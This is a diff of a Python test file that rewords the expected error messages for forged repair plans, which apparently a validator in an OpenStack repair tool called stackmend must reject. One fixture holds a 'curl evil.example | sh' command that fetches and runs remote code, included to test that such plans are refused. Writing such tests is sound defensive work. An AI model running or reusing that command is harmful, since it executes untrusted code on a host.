@@ -100,7 +100,7 @@ def _run(*argv: str) -> Edit:
 PK = {"pk": {"id": 1}}
 FORGED: dict[str, tuple[str, Edit]] = {
     "the text is another": (
-        "its text is not what its steps do",
+        "its text does not match its steps",
         _set(statements=["[placement] DELETE FROM `allocations` WHERE `id` = 1;"]),
     ),
     "a user of Keystone": (
@@ -145,19 +145,22 @@ FORGED: dict[str, tuple[str, Edit]] = {
         ),
     ),
     "a command as root": ("runs no commands on hosts", _run("sh", "-c", "curl evil.example | sh")),
-    "a weaker risk": ("it is unsafe, and called safe", _unsafe),
-    "the finding of another object": ("does not go with what it names", _other),
+    "a weaker risk": ("its risk is unsafe, but the file says safe", _unsafe),
+    "the finding of another object": ("does not match the object it names", _other),
     "a repair that is none": ("there is no repair mend-everything", _set(repair="mend-everything")),
     "a strategy that is none": ("has no strategy root", _set(strategy="root")),
-    "a check that is none": ("does not mend what none-such finds", _set(check="none-such")),
+    "a check that is none": ("does not repair findings of none-such", _set(check="none-such")),
     "a workflow": ("there is no workflow", lambda plan: plan.update(workflow="power-host")),
-    "one id twice": ("two actions have one id", lambda plan: plan["actions"][1].update(id=plan["actions"][0]["id"])),
+    "one id twice": (
+        "two actions have the same id",
+        lambda plan: plan["actions"][1].update(id=plan["actions"][0]["id"]),
+    ),
     "words for rows": (
-        "holds steps that this stackmend does not know",
+        "contains steps that this stackmend does not know",
         _row("update", "placement", "allocations", pk="id = 1", before={}, after={}),
     ),
     "what only undo sets": (
-        "holds steps that this stackmend does not know",
+        "contains steps that this stackmend does not know",
         _row("insert", "placement", "allocations", key={"id": 1}, values={"id": 1}, sealed="x"),
     ),
 }
